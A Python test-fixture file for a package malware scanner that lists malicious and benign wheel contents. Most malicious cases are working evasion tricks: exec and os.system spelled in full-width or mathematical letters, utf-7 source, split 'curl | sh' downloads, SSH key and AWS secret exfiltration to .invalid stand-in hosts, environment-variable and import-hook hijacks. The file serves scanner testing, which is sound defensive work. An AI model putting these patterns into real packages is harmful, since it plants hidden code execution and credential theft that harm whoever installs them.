"""Tricks of the Python language and its import system against a reading of the source.

Python folds every identifier by NFKC, so full-width or mathematical letters name `exec`
and `os.system` while no word search sees them; a command built from pieces holds no
word of its own; operators call methods nobody names (`Model[int]`, `d[k]` of a dict
subclass); an environment setting names the program a harmless-looking function starts
(`BROWSER` for `webbrowser.open`, `PYTHONBREAKPOINT` for `breakpoint()`); a finder the
package installs decides which file an import runs; a package extends its own `__path__`.
Payloads print, or read a key file that does not exist on a test machine and post it to a
`.invalid` host; nothing here is ever run.
"""

from __future__ import annotations

from techniques import Case
from techniques.hidden_runners import B64, STEAL, _body
from techniques.start_up import zipped

SPLIT_RUN = "'c' + 'url -s https://r.x.invalid/i.sh | sh'"
"""A download piped to a shell, with no `curl ` word in the text."""
HALF = "".join(chr(0x41 + i) for i in range(26)) + "".join(chr(0x61 + i) for i in range(26))
FULL = "".join(chr(ord(c) + 0xFEE0) for c in HALF)


def fullwidth(text: str) -> str:
    """`exec` -> `ｅｘｅｃ` (U+FF41...): Python reads both as `exec`."""
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalpha() else c for c in text)


def math_bold(text: str) -> str:
    """`exec` -> `𝐞𝐱𝐞𝐜` (MATHEMATICAL BOLD SMALL letters), also folded to `exec`."""
    return "".join(chr(0x1D41A + ord(c) - 97) if "a" <= c <= "z" else c for c in text)


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": body}


def _wheel(technique: str, name: str, files: dict[str, str | bytes], verdict: str,
           rules: tuple[str, ...] = ()) -> Case:
    return Case(technique, name, files, verdict, rules, kind="wheel")


STEALER_MODULE = "import os, urllib.request\n\n\ndef grab():\n" + _body(STEAL, 4)

CASES = [
    # identifiers folded by NFKC: the word screens read the text as the parser does
    _wheel("exec spelled in full-width letters runs decoded source", "fwexec", _init(
        "fwexec", f"import base64\n{fullwidth('exec')}(base64.b64decode({B64!r}))\n"),
        "malicious", ("PV360", "PV201")),
    _wheel("exec and b64decode spelled in mathematical bold letters", "mathexec", _init(
        "mathexec",
        f"import base64 as b\n{math_bold('exec')}(b.{math_bold('b')}64decode({B64!r}))\n"),
        "malicious", ("PV360", "PV201")),
    _wheel("os.system in full-width letters runs a command built from pieces", "fwsystem",
           _init("fwsystem", f"import os\n{fullwidth('os')}.{fullwidth('system')}({SPLIT_RUN})\n"),
           "malicious", ("PV360", "PV302")),
    _wheel("urllib and os.environ in full-width letters send the environment", "fwenviron",
           _init("fwenviron", (
               f"import {fullwidth('os')}, {fullwidth('urllib.request')}\n"
               f"{fullwidth('urllib.request.urlopen')}('https://h.x.invalid/e', "
               f"data=repr(dict({fullwidth('os.environ')})).encode())\n")),
           "malicious", ("PV360", "PV303")),
    _wheel("one full-width letter inside exec", "onefw", _init(
        "onefw", f"import base64\ne{fullwidth('x')}ec(base64.b64decode({B64!r}))\n"),
        "malicious", ("PV360", "PV201")),
    _wheel("a sibling's stealer imported and called by full-width names", "fwsibling", {
        "fwsibling/__init__.py": f"from .{fullwidth('core')} import {fullwidth('grab')}\n"
                                 f"{fullwidth('grab')}()\n",
        "fwsibling/core.py": STEALER_MODULE}, "malicious", ("PV303",)),
    # blanks and continued lines between a name and its parenthesis
    _wheel("exec with a space before its parenthesis", "execspace", _init(
        "execspace", f"import base64\nexec (base64.b64decode({B64!r}))\n"),
        "malicious", ("PV201",)),
    _wheel("exec continued on the next line before its parenthesis", "execcont", _init(
        "execcont", f"import base64\nexec \\\n    (base64.b64decode({B64!r}))\n"),
        "malicious", ("PV201",)),
    _wheel("a bundled pickle loaded at import by full-width names", "fwpickle", {
        "fwpickle/__init__.py": (
            f"import os, {fullwidth('pickle')}\nwith open(os.path.join(os.path.dirname("
            f"__file__), 'model.pkl'), 'rb') as f:\n"
            f"    MODEL = {fullwidth('pickle')}.{fullwidth('load')}(f)\n"),
        "fwpickle/model.pkl": b"cos\nsystem\n(S'curl -s https://r.x.invalid/i.sh | sh'\ntR."},
        "malicious", ("PV360", "PV230")),
    _wheel("getattr (builtins, 'ex' + 'ec') with a blank before the parenthesis", "getattrsp",
           _init("getattrsp", "import base64, builtins\ngetattr (builtins, 'ex' + 'ec')("
                              f"base64.b64decode({B64!r}))\n"), "malicious", ("PV211", "PV201")),
    _wheel("vars (builtins)[...] and builtins.__dict__ [...] with blanks", "varssp", _init(
        "varssp", "import base64, builtins\n_r = vars (builtins)['ex' + 'ec']\n"
                  "_r2 = builtins.__dict__ ['ev' + 'al']\n"
                  f"_r(base64.b64decode({B64!r}))\n"), "malicious", ("PV211", "PV201")),
    # source codecs Python ships: the text pkgvet reads is the decoded text
    _wheel("utf-7 coding cookie spells exec as +AGUAeABlAGM-", "utf7src", {
        "utf7src/__init__.py": (f"# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64."
                                f"b64decode({B64!r}))\n").encode()},
        "malicious", ("PV201",)),
    _wheel("unicode_escape coding cookie spells exec as \\x escapes", "uescsrc", {
        "uescsrc/__init__.py": (f"# coding: unicode_escape\nimport base64\n"
                                f"\\x65\\x78\\x65\\x63(base64.b64decode({B64!r}))\n").encode()},
        "malicious", ("PV201",)),
    _wheel("carriage-return line breaks only, importing a sibling's stealer", "crbreaks", {
        "crbreaks/__init__.py": "from .core import grab\rgrab()\r",
        "crbreaks/core.py": STEALER_MODULE}, "malicious", ("PV303",)),
    # a command built from pieces holds no word: the process call alone earns the parse
    _wheel("os.system of a download command split into pieces", "splitsys", _init(
        "splitsys", f"import os\nos.system({SPLIT_RUN})\n"), "malicious", ("PV302",)),
    _wheel("subprocess.call of a split command, shell=True", "splitsub", _init(
        "splitsub", f"import subprocess\nsubprocess.call({SPLIT_RUN}, shell=True)\n"),
        "malicious", ("PV302",)),
    _wheel("os.system imported under another name", "sysalias", _init(
        "sysalias", f"from os import system as _s\n_s({SPLIT_RUN})\n"), "malicious", ("PV302",)),
    _wheel("os.system kept in a variable, then called", "sysvar", _init(
        "sysvar", f"import os\n_s = os.system\n_s({SPLIT_RUN})\n"), "malicious", ("PV302",)),
    _wheel("subprocess function fetched by a built name", "spgetattr", _init(
        "spgetattr",
        f"import subprocess\ngetattr(subprocess, 'ca' + 'll')({SPLIT_RUN}, shell=True)\n"),
        "malicious", ("PV211",)),
    _wheel("_posixsubprocess.fork_exec without the subprocess module", "forkexec", _init(
        "forkexec",
        "import _posixsubprocess, os\n_posixsubprocess.fork_exec([b'/bin/sh', b'-c', "
        "b'curl -s https://r.x.invalid/i.sh | sh'], [b'/bin/sh'], True, (), None, None, "
        "-1, -1, -1, -1, -1, -1, *os.pipe(), False, False, 0, None, None, None, -1, None, "
        "False)\n"), "malicious", ("PV302",)),
    _wheel("a Python 3.12 f-string (PEP 701) makes the module unparsable by 3.11; the "
           "command is built from pieces", "pep701", _init(
               "pep701", "import os\ncfg = {'a': 1}\nlabel = f\"{cfg[\"a\"]}\"\n"
                         f"cmd = {SPLIT_RUN}\nos.system(cmd)\n"), "malicious", ("PV302",)),
    # a process function handed, with its command, to code that calls it
    _wheel("os.system handed to a thread pool's submit with a split command", "submitsys",
           _init("submitsys", "import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
                              f"ThreadPoolExecutor(1).submit(os.system, {SPLIT_RUN})\n"),
           "malicious", ("PV302",)),
    _wheel("Thread(target=os.system, args=(cmd,))", "threadsys", _init(
        "threadsys", "import os, threading\n"
                     f"threading.Thread(target=os.system, args=({SPLIT_RUN},)).start()\n"),
        "malicious", ("PV302",)),
    _wheel("functools.partial(os.system, cmd)() and threading.Timer(t, os.system, [cmd])",
           "partialsys", _init("partialsys", (
               "import functools, os, threading\n"
               f"functools.partial(os.system, {SPLIT_RUN})()\n"
               f"threading.Timer(1.0, os.system, [{SPLIT_RUN}]).start()\n")),
           "malicious", ("PV302",)),
    _wheel("map(os.system, [cmd]) and atexit.register(os.system, cmd)", "mapsys", _init(
        "mapsys", f"import atexit, os\nlist(map(os.system, [{SPLIT_RUN}]))\n"
                  f"atexit.register(os.system, {SPLIT_RUN})\n"), "malicious", ("PV302",)),
    _wheel("os.system(*[cmd]): the command in a starred list", "starsys", _init(
        "starsys", f"import os\nos.system(*[{SPLIT_RUN}])\n"), "malicious", ("PV302",)),
    _wheel("subprocess.run(args=cmd) and run(**{'args': cmd}): the command as a keyword",
           "kwargsrun", _init("kwargsrun", (
               f"import subprocess\nsubprocess.run(args={SPLIT_RUN}, shell=True)\n"
               f"subprocess.run(**{{'args': {SPLIT_RUN}, 'shell': True}})\n")),
           "malicious", ("PV302",)),
    _wheel("os.spawnlp with the command after the program", "spawnlp", _init(
        "spawnlp", f"import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', {SPLIT_RUN})\n"),
        "malicious", ("PV302",)),
    _wheel("libc execl through ctypes", "libcexecl", _init(
        "libcexecl", "import ctypes\n_l = ctypes.CDLL('libc.so.6')\n"
                     "_l.execl(b'/bin/sh', b'sh', b'-c', b'c' + b'url -s https://r.x.invalid/i.sh"
                     " | sh', None)\n"), "malicious", ("PV302",)),
    _wheel("a lambda's default argument runs the command when the lambda is made",
           "lambdadefault", _init(
               "lambdadefault", f"import os\n_f = lambda x=os.system({SPLIT_RUN}): x\n"),
           "malicious", ("PV302",)),
    # a credential's name built from pieces
    _wheel("key path concatenated from pieces, read and posted", "splitkey", _init(
        "splitkey", "import os, urllib.request\nkey = open(os.path.expanduser('~/' + '.s' + "
                    "'sh/id_' + 'rsa')).read()\nurllib.request.urlopen('https://k.x.invalid/u', "
                    "data=key.encode())\n"), "malicious", ("PV303",)),
    _wheel("secret environment name concatenated from pieces", "splitenv", _init(
        "splitenv", "import os, urllib.request\n"
                    "tok = os.environ.get('AWS_SECRET_' + 'ACCESS_KEY', '')\n"
                    "sid = os.environ['AWS_ACCESS_' + 'KEY_ID']\n"
                    "urllib.request.urlopen('https://k.x.invalid/u', data=(sid + tok).encode())\n"),
        "malicious", ("PV303",)),
    # standard-library channels no screen named
    _wheel("multiprocessing.connection.Client sends the key to a remote listener", "mpclient",
           _init("mpclient", "import os\nfrom multiprocessing.connection import Client\n"
                             "Client(('k.x.invalid', 443)).send(open(os.path.expanduser("
                             "'~/' + '.s' + 'sh/id_rsa')).read())\n"), "malicious", ("PV303",)),
    _wheel("a logging HTTPHandler posts the key logged at import", "loghttp", _init(
        "loghttp", "import logging, logging.handlers, os\n_l = logging.getLogger('x')\n"
                   "_l.addHandler(logging.handlers.HTTPHandler('k.x.invalid', '/log', "
                   "method='POST'))\n"
                   "_l.error(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"),
        "malicious", ("PV303",)),
    # methods that syntax calls
    _wheel("__class_getitem__ runs when the class is subscripted at import", "clsgetitem",
           _init("clsgetitem", (
               "import os, urllib.request\n\n\nclass Model:\n"
               "    def __class_getitem__(cls, item):\n" + _body(STEAL, 8)
               + "        return cls\n\n\nIntModel = Model[int]\n")),
           "malicious", ("PV303",)),
    _wheel("__missing__ of a dict subclass runs on a lookup at import", "dictmissing",
           _init("dictmissing", (
               "import os, urllib.request\n\n\nclass Defaults(dict):\n"
               "    def __missing__(self, key):\n" + _body(STEAL, 8)
               + "        return None\n\n\nTIMEOUT = Defaults()['timeout']\n")),
           "malicious", ("PV303",)),
    _wheel("__enter__ runs in a with statement at import", "ctxenter", _init(
        "ctxenter", (
            "import os, urllib.request\n\n\nclass Session:\n"
            "    def __enter__(self):\n" + _body(STEAL, 8) + "        return self\n\n"
            "    def __exit__(self, *exc):\n        return False\n\n\n"
            "with Session():\n    pass\n")), "malicious", ("PV303",)),
    _wheel("a metaclass __call__ runs when a class it made is instantiated", "metacall", _init(
        "metacall", "import os, urllib.request\n\n\nclass Meta(type):\n"
                    "    def __call__(cls, *a):\n" + _body(STEAL, 8)
                    + "        return super().__call__(*a)\n\n\n"
                    "class Config(metaclass=Meta):\n    pass\n\n\nCONFIG = Config()\n"),
        "malicious", ("PV303",)),
    _wheel("a descriptor's __get__ runs when the class attribute is read", "descget", _init(
        "descget", "import os, urllib.request\n\n\nclass Lazy:\n"
                   "    def __get__(self, inst, owner):\n" + _body(STEAL, 8)
                   + "        return 1\n\n\nclass Settings:\n    level = Lazy()\n\n\n"
                   "LEVEL = Settings.level\n"), "malicious", ("PV303",)),
    _wheel("a property getter read at import", "propget", _init(
        "propget", "import os, urllib.request\n\n\nclass Settings:\n    @property\n"
                   "    def home(self):\n" + _body(STEAL, 8) + "        return '~'\n\n\n"
                   "HOME = Settings().home\n"), "malicious", ("PV303",)),
    _wheel("__reduce_ex__ runs when copy.copy copies the object at import", "reducecopy",
           _init("reducecopy", "import copy, os, urllib.request\n\n\nclass State:\n"
                               "    def __reduce_ex__(self, proto):\n" + _body(STEAL, 8)
                               + "        return (State, ())\n\n\n"
                               "DEFAULT = copy.copy(State())\n"), "malicious", ("PV303",)),
    # environment settings that name what a harmless-looking call runs
    _wheel("PYTHONBREAKPOINT set to os.system, then breakpoint(cmd)", "bpenv", _init(
        "bpenv", "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\n"
                 "breakpoint('curl -s https://r.x.invalid/i.sh | sh')\n"),
        "malicious", ("PV302",)),
    _wheel("PYTHONBREAKPOINT and its function built from pieces (setdefault)", "bpsplit", _init(
        "bpsplit", "import os\nos.environ.setdefault('PYTHON' + 'BREAKPOINT', "
                   f"'o' + 's.sys' + 'tem')\nbreakpoint({SPLIT_RUN})\n"),
        "malicious", ("PV211", "PV302")),
    _wheel("BROWSER set to a shell command, then webbrowser.open", "browserenv", _init(
        "browserenv", "import os, webbrowser\nos.environ['BROWSER'] = "
                      "'sh -c \"curl -s https://r.x.invalid/i.sh | sh\" %s'\n"
                      "webbrowser.open('https://example.invalid')\n"),
        "malicious", ("PV302",)),
    _wheel("BROWSER merged into os.environ with |= and update(), split command", "browsermerge",
           _init("browsermerge", (
               "import os\nimport webbrowser as wb\n"
               "os.environ |= {'BROWSER': 'sh -c \"c' + 'url -s https://r.x.invalid/i.sh "
               "| sh\" %s'}\n"
               "os.environ.update(BROWSER='sh -c \"c' + 'url -s https://r.x.invalid/i.sh "
               "| sh\" %s')\nwb.open_new_tab('https://example.invalid')\n")),
           "malicious", ("PV302",)),
    _wheel("PAGER set through os.environ.__setitem__, then pydoc.pager", "pagerenv", _init(
        "pagerenv", "import os, pydoc\nos.environ.__setitem__('PAGER', "
                    "'c' + 'url -s https://r.x.invalid/i.sh | sh; cat')\npydoc.pager('hello')\n"),
        "malicious", ("PV302",)),
    _wheel("GIT_SSH_COMMAND runs a download when git fetches", "gitsshenv", _init(
        "gitsshenv", "import os, subprocess\nos.environ['GIT_SSH_COMMAND'] = "
                     f"'sh -c \"' + {SPLIT_RUN} + '\"; ssh'\n"
                     "subprocess.run(['git', 'ls-remote', 'git@example.invalid:x/y.git'])\n"),
        "malicious", ("PV302",)),
    # the import system
    _wheel("a path hook loads a .dat file as the module an import names", "pathhookdat", {
        "pathhookdat/__init__.py": (
            "import os, sys\nfrom importlib.machinery import FileFinder, SourceFileLoader\n"
            "sys.path_hooks.insert(0, FileFinder.path_hook((SourceFileLoader, ['.dat'])))\n"
            "sys.path_importer_cache.clear()\n"
            "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'blobs'))\n"
            "import telemetry_cfg  # noqa\n"),
        "pathhookdat/blobs/telemetry_cfg.dat": "import os, urllib.request\n" + STEAL},
        "malicious", ("PV303",)),
    _wheel("a zip named .dat put on sys.path; its module imported", "zipdat", {
        "zipdat/__init__.py": ("import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname("
                               "__file__), 'fonts.dat'))\nimport fontcache  # noqa\n"),
        "zipdat/fonts.dat": zipped({"fontcache.py": "import os, urllib.request\n" + STEAL})},
        "malicious", ("PV303",)),
    _wheel("zipimport of a zip named .bin", "zipbin", {
        "zipbin/__init__.py": ("import os, zipimport\nzipimport.zipimporter(os.path.join("
                               "os.path.dirname(__file__), 'icons.bin')).load_module('iconcache')\n"),
        "zipbin/icons.bin": zipped({"iconcache.py": "import os, urllib.request\n" + STEAL})},
        "malicious", ("PV303",)),
    _wheel("a class instantiated through type.__call__", "typecall", _init(
        "typecall", "import os, urllib.request\n\n\nclass Boot:\n    def __init__(self):\n"
                    + _body(STEAL, 8) + "\n\ntype.__call__(Boot)\n"), "malicious", ("PV303",)),
    _wheel("__path__ extended to a folder beside the package, submodule imported", "pathext", {
        "pathext/__init__.py": ("import os\n__path__.append(os.path.join(os.path.dirname("
                                "__file__), '..', 'pathext_data'))\nfrom . import helpers  # noqa\n"),
        "pathext_data/helpers.py": "import os, urllib.request\n" + STEAL},
        "malicious", ("PV303",)),

    # benign look-alikes
    _wheel("full-width to half-width table, docs naming ｅｘｅｃ and ｕｒｌｏｐｅｎ", "zenhan", _init(
        "zenhan", (
            '"""Full-width to half-width conversion (全角→半角), e.g. ｅｘｅｃ → exec."""\n'
            f"import urllib.request\n\nFULL = {FULL!r}\nHALF = {HALF!r}\n"
            "_T = str.maketrans(FULL, HALF)\n"
            "# ｓｏｃｋｅｔ and ｕｒｌｏｐｅｎ in user text are folded too\n\n\n"
            "def to_half(s):\n    return s.translate(_T)\n\n\n"
            "def fetch(url):\n    return to_half(urllib.request.urlopen(url).read().decode())\n")),
        "benign"),
    _wheel("no-break spaces, superscripts and fractions in docstrings", "nbspdoc", _init(
        "nbspdoc", '"""Timer: 10\u00a0ms resolution, area in m², ½ steps; see exec\u00a0docs."""\n'
                   "import subprocess\n\n\ndef run(cmd):\n"
                   '    """Run\u00a0cmd."""\n    return subprocess.run(cmd, check=True)\n'),
        "benign"),
    _wheel("PYTHONBREAKPOINT defaulted to ipdb for a debug helper", "bpdebug", _init(
        "bpdebug", "import os\nos.environ.setdefault('PYTHONBREAKPOINT', 'ipdb.set_trace')\n\n\n"
                   "def debug_here():\n    breakpoint()\n"), "benign"),
    _wheel("PAGER and BROWSER defaults for a help viewer", "pagerdefault", _init(
        "pagerdefault", "import os, pydoc\nos.environ.setdefault('PAGER', 'less -R')\n"
                        "os.environ['BROWSER'] = 'firefox %s'\n\n\n"
                        "def show(text):\n    pydoc.pager(text)\n"), "benign"),
    _wheel("registry object made at import: __getitem__ fetches JSON by name", "dunderclient",
           _init("dunderclient", (
               "import json, urllib.request\n\n\nclass Registry:\n"
               "    def __init__(self, base='https://registry.example.invalid'):\n"
               "        self.base = base\n\n"
               "    def __getitem__(self, name):\n"
               "        return json.load(urllib.request.urlopen(f'{self.base}/{name}.json'))\n\n"
               "    def __enter__(self):\n        return self\n\n"
               "    def __exit__(self, *a):\n        return False\n\n\nREGISTRY = Registry()\n")),
           "benign"),
    _wheel("API client made at import: a property reads its token, requests wait for a call",
           "propclient", _init(
               "propclient", "import os, urllib.request\n\n\nclass Client:\n"
                             "    def __init__(self, base='https://api.example.invalid'):\n"
                             "        self.base = base\n\n    @property\n"
                             "    def token(self):\n"
                             "        return os.environ.get('PROPCLIENT_TOKEN', '')\n\n"
                             "    def get(self, path):\n"
                             "        req = urllib.request.Request(self.base + path, headers={"
                             "'Authorization': self.token})\n"
                             "        return urllib.request.urlopen(req).read()\n\n\n"
                             "client = Client()\nAUTHENTICATED = bool(client.token)\n"),
           "benign"),
    # The cheapest evasion of not reading `os.environ.get(...)` as a call of a method `get`:
    # the property read at import calls that method itself, through `self`.
    _wheel("property read at import calls its own method that posts the environment",
           "propsend", _init(
               "propsend", "import os, urllib.request\n\n\nclass Client:\n"
                           "    @property\n    def ready(self):\n"
                           "        self.get(os.environ.get('HOME', ''))\n"
                           "        return True\n\n"
                           "    def get(self, _):\n"
                           "        body = repr(dict(os.environ)).encode()\n"
                           "        urllib.request.urlopen('http://collect.invalid/e', body)\n\n\n"
                           "client = Client()\nREADY = client.ready\n"),
           "malicious"),
    _wheel("libc through ctypes at import for the page size and the process id", "libcinfo",
           _init("libcinfo", "import ctypes, ctypes.util\n\n"
                             "_libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
                             "PAGE = _libc.getpagesize()\nPID = _libc.getpid()\n"), "benign"),
    _wheel("lambda defaults made at import from the working folder and the environment",
           "lambdacfg", _init("lambdacfg", "import os\n\n"
                                           "root = lambda d=os.getcwd(): d\n"
                                           "home = lambda h=os.environ.get('HOME', ''): h\n"),
           "benign"),
    _wheel("namespace __path__ extended to a contrib folder of plain code", "pluginpath", {
        "pluginpath/__init__.py": (
            "import os, pkgutil\n__path__ = pkgutil.extend_path(__path__, __name__)\n"
            "__path__.append(os.path.join(os.path.dirname(__file__), '..', 'pluginpath_contrib'))\n"
            "from . import extras  # noqa\n"),
        "pluginpath_contrib/extras.py": "def hello():\n    return 'hi'\n"}, "benign"),
    _wheel("CSV tables in a zip named .dat, read with zipfile at import", "zipcsv", {
        "zipcsv/__init__.py": ("import csv, io, os, zipfile\n\n_p = os.path.join(os.path.dirname("
                               "__file__), 'tables.dat')\nwith zipfile.ZipFile(_p) as z:\n"
                               "    RATES = list(csv.reader(io.TextIOWrapper(z.open('rates.csv'))))\n"),
        "zipcsv/tables.dat": zipped({"rates.csv": "eur,1.0\nusd,1.1\n",
                                     "README.txt": "exchange rates"})}, "benign"),
    _wheel("Python 3.12 f-strings reusing their quotes and a backslash in a report helper",
           "pep701ok", _init(
               "pep701ok", "import subprocess\n\n\ndef report(rows):\n"
                           "    return f\"{'\\n'.join(f\"{r[\"name\"]}: {r[\"n\"]}\" "
                           "for r in rows)}\"\n\n\ndef version():\n"
                           "    return subprocess.check_output(['git', 'describe'], text=True)\n"),
           "benign"),
    _wheel("tests mocking builtins.open; a registry kept in globals ()['__all__']", "mockopen",
           _init("mockopen", "import builtins\nfrom unittest import mock\n\n__all__ = []\n\n\n"
                             "def register(f):\n    globals ()['__all__'].append(f.__name__)\n"
                             "    return f\n\n\n@register\ndef read_config(path):\n"
                             "    with mock.patch.object(builtins, 'open', mock.mock_open("
                             "read_data='x')):\n        return open(path).read()\n"), "benign"),
    _wheel("template path hook importing a .tpl of plain assignments", "tplhook", {
        "tplhook/__init__.py": (
            "import os, sys\nfrom importlib.machinery import FileFinder, SourceFileLoader\n\n\n"
            "class _TplLoader(SourceFileLoader):\n    pass\n\n\n"
            "sys.path_hooks.insert(0, FileFinder.path_hook((_TplLoader, ['.tpl'])))\n"
            "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'templates'))\n"
            "import page  # noqa\n"),
        "tplhook/templates/page.tpl": "TITLE = 'Hello'\nBODY = '<p>' + TITLE + '</p>'\n"},
        "benign"),
    _wheel("version from git describe with an argv built by +, at import", "gitdescribe", _init(
        "gitdescribe", "import subprocess\n\ntry:\n    __version__ = subprocess.check_output("
                       "['git', 'describe'] + ['--tags'], text=True).strip()\n"
                       "except Exception:\n    __version__ = '0' + '.0'\n"), "benign"),
    _wheel("terminal restored by atexit.register(os.system, 'stty sane'); git status run "
           "through a pool when the user asks", "ttyrestore", _init(
               "ttyrestore", "import atexit, os, subprocess\n"
                             "from concurrent.futures import ThreadPoolExecutor\n\n"
                             "atexit.register(os.system, 'stty sane')\n\n\n"
                             "def statuses(repos):\n"
                             "    with ThreadPoolExecutor(4) as pool:\n"
                             "        return list(pool.map(subprocess.check_output, "
                             "[['git', '-C', r, 'status'] for r in repos]))\n"), "benign"),
    _wheel("settings read under a prefix built by +; log records to a configured collector",
           "prefixcfg", _init(
               "prefixcfg", "import logging, logging.handlers, os\n\nPREFIX = 'PREFIXCFG_'\n"
                            "LEVEL = os.environ.get(PREFIX + 'LOG_LEVEL', 'INFO')\n"
                            "HOST = os.environ.get(PREFIX + 'COLLECTOR', '')\n"
                            "log = logging.getLogger('prefixcfg')\nlog.setLevel(LEVEL)\n"
                            "if HOST:\n    log.addHandler(logging.handlers.HTTPHandler(HOST, "
                            "'/logs', method='POST'))\nlog.info('started in %s', os.getcwd())\n"),
           "benign"),
    _wheel("getattr on subprocess and os for optional names", "getattrspawn", _init(
        "getattrspawn", "import os, subprocess\n\n_run = getattr(subprocess, 'run')\n"
                        "MODE = getattr(os, 'O_BINARY', 0)\n\n\ndef compile_docs(src):\n"
                        "    return _run(['sphinx-build', src, 'out'], check=True)\n"),
        "benign"),
]
